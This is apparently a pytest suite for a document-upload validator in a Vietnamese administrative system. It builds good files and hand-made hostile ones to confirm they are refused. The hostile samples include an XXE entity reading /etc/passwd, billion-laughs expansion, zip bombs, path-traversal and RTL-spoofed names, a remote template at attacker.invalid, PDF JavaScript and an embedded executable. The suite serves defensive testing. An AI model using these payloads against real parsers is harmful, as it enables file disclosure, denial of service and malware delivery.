"""Upload checks against good files and hand-built hostile ones; no app or database needed."""

import gc
import hashlib
import io
import struct
import unicodedata
import zipfile

import docx
import flask
import openpyxl
import pytest
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from flask_babel import Babel
from pypdf import PdfWriter

from qms.files.uploads import MEDIA_TYPES, UploadRefused, check_upload

MB = 1024 * 1024
LIMIT = 20 * MB
BODY = "Quy trình tiếp nhận hồ sơ hành chính"
CELL = "Bộ phận một cửa xã"
HEADER = "Ủy ban nhân dân xã Tân Phú"
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


# --- builders ------------------------------------------------------------------------------------------


def make_docx():
    document = docx.Document()
    document.add_paragraph(BODY)
    document.add_table(rows=1, cols=2).cell(0, 1).text = CELL
    document.sections[0].header.paragraphs[0].text = HEADER
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def make_xlsx():
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "Danh mục"
    sheet["A1"] = "Mã hồ sơ"
    sheet["B2"] = 42
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def rewrite(data, replace=None, add=None):
    """Copy a ZIP, replacing entries (name -> bytes or function of the old bytes) and adding new ones."""
    replace, add = replace or {}, add or {}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = source.read(info)
            change = replace.get(info.filename, content)
            target.writestr(info.filename, change(content) if callable(change) else change)
        for name, content in add.items():
            target.writestr(name, content)
    return out.getvalue()


def substitute(old, new):
    def change(content):
        assert old in content
        return content.replace(old, new)

    return change


def patch_central(data, name, field, value):
    """Overwrite a 4-byte field (16 CRC, 20 compressed size, 24 uncompressed size) of an entry's
    central-directory record."""
    buffer = bytearray(data)
    position = buffer.find(b"PK\x01\x02")
    while position != -1:
        name_length = struct.unpack_from("<H", buffer, position + 28)[0]
        if buffer[position + 46 : position + 46 + name_length] == name.encode():
            struct.pack_into("<I", buffer, position + field, value)
            return bytes(buffer)
        position = buffer.find(b"PK\x01\x02", position + 4)
    raise AssertionError(f"{name} not in the central directory")


def make_ole(*names):
    """A minimal OLE2 compound file (MS-CFB v3, 512-byte sectors): header, one FAT sector (sector 0) and
    one directory sector (sector 1) holding the root entry and the given empty streams. This is how
    Office wraps an encrypted .docx ("EncryptionInfo", "EncryptedPackage") and how a .doc starts
    ("WordDocument")."""
    end_of_chain, free = 0xFFFFFFFE, 0xFFFFFFFF
    header = bytearray(512)
    header[0:8] = bytes.fromhex("D0CF11E0A1B11AE1")
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIII", header, 40, 0, 1, 1, 0, 4096, end_of_chain, 0, end_of_chain)
    struct.pack_into("<I", header, 72, 0)
    struct.pack_into("<109I", header, 76, 0, *[free] * 108)
    fat = struct.pack("<128I", 0xFFFFFFFD, end_of_chain, *[free] * 126)
    directory = bytearray(512)
    for index, (name, entry_type) in enumerate([("Root Entry", 5)] + [(name, 2) for name in names]):
        encoded = name.encode("utf-16-le") + b"\x00\x00"
        entry = bytearray(128)
        entry[: len(encoded)] = encoded
        struct.pack_into("<HB", entry, 64, len(encoded), entry_type)
        struct.pack_into("<III", entry, 68, free, free, free)
        struct.pack_into("<I", entry, 116, end_of_chain)
        directory[index * 128 : (index + 1) * 128] = entry
    return bytes(header) + fat + bytes(directory)


def make_pdf(catalog_extra="", content=b"BT /F1 18 Tf 72 720 Td (Hello commune) Tj ET", trailer_extra=""):
    """A minimal one-page PDF written by hand, with a correct cross-reference table."""
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {catalog_extra}>>".encode(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R {trailer_extra}>>\n".encode()
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def refused(filename, data, **limits):
    limits.setdefault("max_bytes", LIMIT)
    with pytest.raises(UploadRefused) as caught:
        check_upload(filename, data, **limits)
    return caught.value


# --- good files ----------------------------------------------------------------------------------------


def test_good_docx_is_accepted_unchanged():
    data = make_docx()
    checked = check_upload("Quy trình.docx", data, max_bytes=LIMIT)
    assert checked.kind == "docx"
    assert checked.media_type == MEDIA_TYPES["docx"]
    assert checked.display_name == "Quy trình.docx"
    assert checked.data == data
    assert checked.size == len(data)
    assert checked.sha256 == hashlib.sha256(data).hexdigest()


def test_docx_text_has_body_table_cell_and_header():
    text = check_upload("a.docx", make_docx(), max_bytes=LIMIT).text
    assert BODY in text
    assert CELL in text
    assert HEADER in text


def test_a_docx_read_for_its_text_lets_go_of_its_xml_at_once():
    # python-docx's parts and package refer to each other; without the cycle collector (which runs
    # its full passes rarely in a long-lived worker) nothing of the upload's XML may stay behind
    from docx.opc.part import Part

    data = make_docx()
    gc.collect()
    gc.disable()
    try:
        check_upload("a.docx", data, max_bytes=LIMIT)
        kept = [o for o in gc.get_objects() if isinstance(o, Part) and {"_element", "_blob"} & set(vars(o))]
    finally:
        gc.enable()
    assert kept == []


def test_good_xlsx_is_accepted_with_cell_text():
    checked = check_upload("bang.xlsx", make_xlsx(), max_bytes=LIMIT)
    assert checked.kind == "xlsx"
    assert checked.media_type == MEDIA_TYPES["xlsx"]
    assert "Mã hồ sơ" in checked.text
    assert "42" in checked.text
    assert "Danh mục" in checked.text


def test_good_pdf_is_accepted_with_text():
    checked = check_upload("bao-cao.pdf", make_pdf(), max_bytes=LIMIT)
    assert checked.kind == "pdf"
    assert checked.media_type == "application/pdf"
    assert "Hello commune" in checked.text


def test_external_hyperlink_is_allowed():
    document = docx.Document()
    document.part.relate_to("https://dichvucong.gov.vn/", RT.HYPERLINK, is_external=True)
    buffer = io.BytesIO()
    document.save(buffer)
    assert check_upload("a.docx", buffer.getvalue(), max_bytes=LIMIT).kind == "docx"


# --- type and name -------------------------------------------------------------------------------------


def test_too_large_is_checked_first_with_status_413():
    error = refused("bad/name.docx", b"x" * 11, max_bytes=10)
    assert error.code == "too_large"
    assert error.status == 413


def test_empty_file():
    assert refused("a.docx", b"").code == "empty"


def test_plain_text_and_plain_zip_are_unsupported():
    assert refused("a.docx", b"hello").code == "unsupported_type"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
    error = refused("a.odt", buffer.getvalue())
    assert error.code == "unsupported_type"
    assert error.status == 400


def test_renamed_doc_is_legacy_format():
    assert refused("bieu-mau.docx", make_ole("WordDocument", "1Table")).code == "legacy_format"


def test_password_protected_office_file_is_encrypted():
    data = make_ole("EncryptionInfo", "EncryptedPackage")
    assert refused("bieu-mau.docx", data).code == "encrypted"


def test_name_with_slash_is_refused():
    assert refused("../../etc/a.docx", make_docx()).code == "bad_name"
    assert refused("C:\\Users\\a.docx", make_docx()).code == "bad_name"


def test_name_with_control_character_is_refused():
    assert refused("bao\x07cao.docx", make_docx()).code == "bad_name"
    assert refused("hoso\u202excod.docx", make_docx()).code == "bad_name"


def test_vietnamese_name_is_kept_and_normalised():
    data = make_docx()
    assert check_upload("Biểu mẫu 01.docx", data, max_bytes=LIMIT).display_name == "Biểu mẫu 01.docx"
    decomposed = unicodedata.normalize("NFD", "Biểu mẫu 01.docx")
    assert check_upload(decomposed, data, max_bytes=LIMIT).display_name == "Biểu mẫu 01.docx"


@pytest.mark.parametrize(
    "filename, expected",
    [
        ("Quyết định.pdf", "Quyết định.docx"),
        ("Quyết định.DOC", "Quyết định.docx"),
        ("Báo cáo v1.2", "Báo cáo v1.2.docx"),
        ("  ..ẩn   tên  .docx", "ẩn tên.docx"),
        (".docx", "document.docx"),
        ("", "document.docx"),
    ],
)
def test_display_name_gets_the_extension_of_the_content(filename, expected):
    assert check_upload(filename, make_docx(), max_bytes=LIMIT).display_name == expected


def test_xlsx_named_doc_gets_xlsx_extension():
    assert check_upload("bang.doc", make_xlsx(), max_bytes=LIMIT).display_name == "bang.xlsx"


def test_long_name_is_cut_keeping_the_extension():
    name = check_upload("đ" * 300 + ".docx", make_docx(), max_bytes=LIMIT).display_name
    assert len(name) == 120
    assert name.endswith("đ.docx")


# --- macros, templates, strict -------------------------------------------------------------------------


def test_docm_content_type_is_refused():
    docm = "application/vnd.ms-word.document.macroEnabled.main+xml"
    data = rewrite(make_docx(), {"[Content_Types].xml": substitute(DOCX_MAIN.encode(), docm.encode())})
    assert refused("a.docx", data).code == "macros"


def test_dotx_template_is_refused():
    dotx = "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
    data = rewrite(make_docx(), {"[Content_Types].xml": substitute(DOCX_MAIN.encode(), dotx.encode())})
    assert refused("a.docx", data).code == "macros"


def test_vba_project_inside_docx_is_refused():
    data = rewrite(make_docx(), add={"word/vbaProject.bin": bytes.fromhex("D0CF11E0A1B11AE1") + bytes(504)})
    assert refused("a.docx", data).code == "macros"


def test_xlsm_renamed_xlsx_is_refused():
    xlsm = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    content_types = substitute(XLSX_MAIN.encode(), xlsm.encode())
    data = rewrite(make_xlsx(), {"[Content_Types].xml": content_types}, add={"xl/vbaProject.bin": bytes(512)})
    assert refused("bang.xlsx", data).code == "macros"


def test_strict_ooxml_is_refused():
    data = rewrite(
        make_docx(),
        {
            "_rels/.rels": substitute(
                f"{REL}/officeDocument".encode(),
                b"http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument",
            ),
            "word/document.xml": substitute(
                b"http://schemas.openxmlformats.org/wordprocessingml/2006/main",
                b"http://purl.oclc.org/ooxml/wordprocessingml/main",
            ),
        },
    )
    assert refused("a.docx", data).code == "strict_ooxml"


# --- zip bombs and damage ------------------------------------------------------------------------------


def test_zip_bomb_by_entry_count():
    data = rewrite(make_docx(), add={f"customXml/pad{index}.bin": b"" for index in range(2001)})
    assert refused("a.docx", data).code == "zip_bomb"


def test_zip_bomb_by_declared_size():
    data = rewrite(make_docx(), add={"word/media/pad.bin": bytes(3 * MB)})
    assert refused("a.docx", data, max_uncompressed=2 * MB).code == "zip_bomb"


def test_zip_bomb_by_compression_ratio():
    data = rewrite(make_docx(), add={"word/media/pad.bin": bytes(5 * MB)})
    assert refused("a.docx", data).code == "zip_bomb"


def test_zip_bomb_with_lying_size_is_caught_by_real_byte_count():
    data = rewrite(make_docx(), add={"word/media/pad.bin": bytes(3 * MB)})
    data = patch_central(data, "word/media/pad.bin", 24, 100)
    # The declared total now fits and the ratio limit is out of the way: only counting the bytes
    # that really come out of the inflater can tell.
    assert refused("a.docx", data, max_uncompressed=MB, max_ratio=10**9).code == "zip_bomb"


def test_truncated_file_is_corrupt():
    data = make_docx()
    assert refused("a.docx", data[: len(data) // 2]).code == "corrupt"


def test_bad_crc_is_corrupt():
    data = patch_central(make_docx(), "word/document.xml", 16, 0x12345678)
    assert refused("a.docx", data).code == "corrupt"


def test_entry_name_with_dot_dot_is_corrupt():
    data = rewrite(make_docx(), add={"../evil.xml": b"<a/>"})
    assert refused("a.docx", data).code == "corrupt"


# --- XML -----------------------------------------------------------------------------------------------


def test_xxe_doctype_in_document_is_refused():
    doctype = b'?>\n<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    data = rewrite(
        make_docx(), {"word/document.xml": lambda xml: xml.replace(b"?>", doctype, 1).replace(BODY.encode(), b"&xxe;")}
    )
    assert refused("a.docx", data).code == "doctype"


def test_billion_laughs_in_utf16_is_refused():
    """UTF-16 hides the DOCTYPE from a byte search; the parser itself must stop at it."""
    laughs = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10)]
    styles = (
        '<?xml version="1.0" encoding="UTF-16"?>'
        f"<!DOCTYPE w:styles [{''.join(laughs)}]>"
        '<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">&lol9;</w:styles>'
    )
    data = rewrite(make_docx(), {"word/styles.xml": styles.encode("utf-16")})
    assert refused("a.docx", data).code == "doctype"


def test_remote_attached_template_is_refused():
    settings_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{REL}/attachedTemplate" '
        'Target="http://attacker.invalid/template.dotm" TargetMode="External"/></Relationships>'
    )
    data = rewrite(make_docx(), add={"word/_rels/settings.xml.rels": settings_rels})
    assert refused("a.docx", data).code == "external_link"


def test_external_workbook_link_is_refused():
    link = (
        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        f'xmlns:r="{REL}"><externalBook r:id="rId1"/></externalLink>'
    )
    link_rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{REL}/externalLinkPath" '
        'Target="file:///\\\\server\\share\\luong.xlsx" TargetMode="External"/></Relationships>'
    )
    data = rewrite(
        make_xlsx(),
        add={"xl/externalLinks/externalLink1.xml": link, "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels},
    )
    assert refused("bang.xlsx", data).code == "external_link"


# --- PDF -----------------------------------------------------------------------------------------------


def test_pdf_with_javascript_is_refused():
    data = make_pdf(catalog_extra="/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> ")
    assert refused("a.pdf", data).code == "pdf_active_content"


def test_pdf_with_attachment_is_refused():
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.add_attachment("payload.exe", b"MZ")
    buffer = io.BytesIO()
    writer.write(buffer)
    assert refused("a.pdf", buffer.getvalue()).code == "pdf_active_content"


def test_encrypted_pdf_is_refused():
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.encrypt("secret", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    assert refused("a.pdf", buffer.getvalue()).code == "encrypted"


def test_aes256_encrypted_pdf_is_refused_without_an_aes_library():
    encrypt = (
        f"/Encrypt << /Filter /Standard /V 5 /R 6 /Length 256 /P -4 /O <{'11' * 48}> /U <{'22' * 48}> "
        f"/OE <{'33' * 32}> /UE <{'44' * 32}> /Perms <{'55' * 16}> >> /ID [<{'66' * 16}> <{'66' * 16}>] "
    )
    assert refused("a.pdf", make_pdf(trailer_extra=encrypt)).code == "encrypted"


def test_damaged_pdf_is_corrupt():
    assert refused("a.pdf", b"%PDF-1.4\nthis is not a pdf\n").code == "corrupt"


# --- messages ------------------------------------------------------------------------------------------


def test_messages_render_inside_an_app_context():
    app = flask.Flask(__name__)
    Babel(app)
    too_large = refused("a.docx", b"x" * (2 * MB), max_bytes=MB)
    macros = refused("a.docx", rewrite(make_docx(), add={"word/vbaProject.bin": b"x"}))
    with app.app_context():
        assert "1 MB" in str(too_large.message)
        assert "macros" in str(macros.message)
